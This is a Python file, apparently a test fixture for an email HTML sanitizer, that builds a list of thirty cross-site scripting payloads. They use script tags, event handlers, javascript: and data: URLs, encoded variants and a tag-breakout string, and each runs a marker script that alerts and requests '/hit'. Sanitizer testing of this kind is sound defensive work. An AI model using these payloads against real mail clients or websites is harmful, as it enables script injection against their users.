"""Thirty ways to run a script from a mail's HTML. Each calls `HIT` if it gets to."""

# Everything that would be noticed: a dialog, a mark on our page, a request to our server.
HIT = (
    "try{parent.document.title='hit'}catch(e){};try{top.hit=1}catch(e){};"
    "try{window.hit=1}catch(e){};try{fetch('/hit')}catch(e){};"
    "try{new Image().src='/hit'}catch(e){};alert(1)"
)
CODED = "".join(f"&#{ord(letter)};" for letter in f"javascript:{HIT}")
B64 = "PHNjcmlwdD50b3AuaGl0PTE7YWxlcnQoMSk8L3NjcmlwdD4="

PAYLOADS = [
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f'<script type="module">{HIT}</script>',
    f'<script src="data:text/javascript,{HIT}"></script>',
    f'<img src="x:" onerror="{HIT}">',
    f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{HIT}">',
    f'<svg onload="{HIT}"></svg>',
    f"<svg><script>{HIT}</script></svg>",
    f'<svg><animate onbegin="{HIT}" attributeName="x" dur="1s"></animate></svg>',
    f'<body onload="{HIT}">',
    f'<body onpageshow="{HIT}">',
    f'<details open ontoggle="{HIT}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{HIT}">',
    f'<select autofocus onfocus="{HIT}"></select>',
    f'<video><source onerror="{HIT}" src="x:"></video>',
    f'<audio src="x:" onerror="{HIT}"></audio>',
    f'<video src="x:" onerror="{HIT}"></video>',
    f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{HIT}">b</b>',
    f'<iframe src="javascript:{HIT}"></iframe>',
    f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    f'<iframe src="data:text/html;base64,{B64}"></iframe>',
    f'<object data="data:text/html;base64,{B64}"></object>',
    f'<embed src="data:text/html;base64,{B64}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64}">',
    f'<a href="javascript:{HIT}">click</a>',
    f'<a href="{CODED}" target="_top">click</a>',
    f'<form action="javascript:{HIT}"><button>click</button></form>',
    '<form action="/hit" target="_top"><button>click</button></form>',
    f'</title></style></textarea>--><script>{HIT}</script><a href="/hit" target="_top">click</a>',
]
